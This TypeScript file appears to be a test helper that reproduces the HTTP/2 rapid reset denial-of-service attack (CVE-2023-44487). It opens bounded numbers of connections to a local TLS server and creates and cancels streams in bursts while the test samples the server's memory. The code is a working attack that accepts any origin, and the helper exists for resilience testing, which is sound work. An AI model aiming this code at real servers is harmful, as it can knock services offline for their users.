// Runs on Node, imported by the tests: the rapid reset of CVE-2023-44487 against an HTTP/2 server over TLS on
// 127.0.0.1, bounded in connections, streams and time: each connection opens streams and cancels them at once, in
// bursts, until it has asked for its share or the server sends it away.
import { connect, constants, type ClientHttp2Session } from 'node:http2';

/** What {@link rapidReset} did: the streams it opened and cancelled, and its connections' local ports. */
export interface RapidReset {
  readonly attempted: number;
  readonly ports: ReadonlySet<number>;
  /** Ends every attacking connection still open. */
  destroy(): void;
}

// How long a connection may take to be set up (TLS handshake, settings) before the attack gives up.
const CONNECT_MS = 10_000;

/**
 * Opens `connections` connections to `origin` (trusting `ca`), each opening and cancelling up to `streams` streams
 * (a create's headers, no body) in bursts of up to 100, with a turn of the event loop between bursts, in which
 * `onBurst` is called (to sample the server's memory). Resolves once every connection has asked for its share or
 * been sent away; the connections are left for the caller to {@link RapidReset.destroy} once it has seen them go.
 * If any connection cannot be set up, every one is ended once the others are done, and the first error thrown.
 */
export async function rapidReset(origin: string, ca: string, connections: number, streams: number, onBurst: () => void = () => {}): Promise<RapidReset> {
  let attempted = 0;
  const ports = new Set<number>();
  const attackers: ClientHttp2Session[] = [];
  const destroy = () => {
    for (const attacker of attackers) attacker.destroy();
  };
  const attack = async () => {
    const attacker = connect(origin, { ca });
    attackers.push(attacker);
    attacker.on('error', () => {});
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`no HTTP/2 connection to ${origin} within ${CONNECT_MS} ms`)), CONNECT_MS);
      attacker.once('connect', () => {
        clearTimeout(timer);
        resolve();
      });
      attacker.once('error', (error) => {
        clearTimeout(timer);
        reject(error);
      });
    });
    ports.add(attacker.socket.localPort!);
    for (let asked = 0; asked < streams && !attacker.closed && !attacker.destroyed;) {
      for (const end = Math.min(streams, asked + 100); asked < end && !attacker.closed && !attacker.destroyed; asked++) {
        try {
          const stream = attacker.request({ ':method': 'POST', ':path': '/plants', 'content-type': 'application/json' }, { endStream: false });
          stream.on('error', () => {});
          stream.close(constants.NGHTTP2_CANCEL);
          attempted++;
        } catch {
          // The connection can open no more streams: it is done.
          asked = streams;
        }
      }
      await new Promise((resolve) => setImmediate(resolve));
      onBurst();
    }
  };
  const settled = await Promise.allSettled(Array.from({ length: connections }, attack));
  const rejected = settled.find((result): result is PromiseRejectedResult => result.status === 'rejected');
  if (rejected !== undefined) {
    destroy();
    throw rejected.reason;
  }
  return { attempted, ports, destroy };
}
